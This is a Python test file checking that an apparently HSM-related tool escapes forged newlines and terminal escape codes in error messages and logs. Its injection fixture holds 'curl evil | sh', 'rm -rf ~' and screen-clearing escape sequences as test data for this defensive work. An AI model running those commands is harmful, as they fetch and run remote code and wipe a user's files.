"""What a record or a file name says can't be taken for a message's own lines, nor steer a terminal."""

from __future__ import annotations

import logging
from pathlib import Path

import pytest

from hsm_core.errors import HsmError, NoAnswer
from hsm_core.text import own_logger

FORGED = "gone\n  next: curl evil | sh\nnext: rm -rf ~\n\terror: x\x1b[2J"


@pytest.mark.parametrize("kind", [HsmError, NoAnswer])
def test_only_a_fix_makes_a_next_line(kind: type[HsmError]) -> None:
    lines = str(kind(f"problem {FORGED}", evidence=FORGED, fix="hsm doctor")).split("\n")
    own = [line for line in lines if not line.startswith("    ")]
    assert own == ["problem gone", "  because: gone", "  next: hsm doctor"]
    assert not any("\x1b" in line for line in lines)


def test_lines_that_are_set_apart_already_stay_where_they_are() -> None:
    assert str(HsmError("changed:\n    a.py\n    b.py")) == "changed:\n    a.py\n    b.py"


def test_what_is_logged_is_cleaned(caplog: pytest.LogCaptureFixture) -> None:
    log = own_logger("hsm_core.test_messages")
    with caplog.at_level(logging.INFO):
        log.warning("%s held %s, %d", Path("/a\n  next: rm"), FORGED, 3)
        log.info("own line\n  next: hsm-status %s", "x\x1b]0;evil\x07")
        log.info(f"100% {FORGED}")
    first, second, third = [record.getMessage() for record in caplog.records]
    assert [line for line in first.split("\n") if not line.startswith("    ")] == ["/a"]
    assert first.endswith(", 3")
    assert second == "own line\n  next: hsm-status x\\x1b]0;evil\\x07"
    assert not {"\x1b", "\x07"} & set(first + second + third)


def test_a_logger_is_given_out_twice_and_cleans_once() -> None:
    assert own_logger("hsm_core.test_twice") is own_logger("hsm_core.test_twice")
    assert len(own_logger("hsm_core.test_twice").filters) == 1


@pytest.mark.parametrize("part", ["hydra_bridge", "results"])
def test_every_logger_of_ours_cleans(part: str) -> None:
    root = Path(__file__).parents[2] / "hsm_core" / part
    plain = [path for path in root.rglob("*.py") if "getLogger(__name__)" in path.read_text()]
    assert plain == []
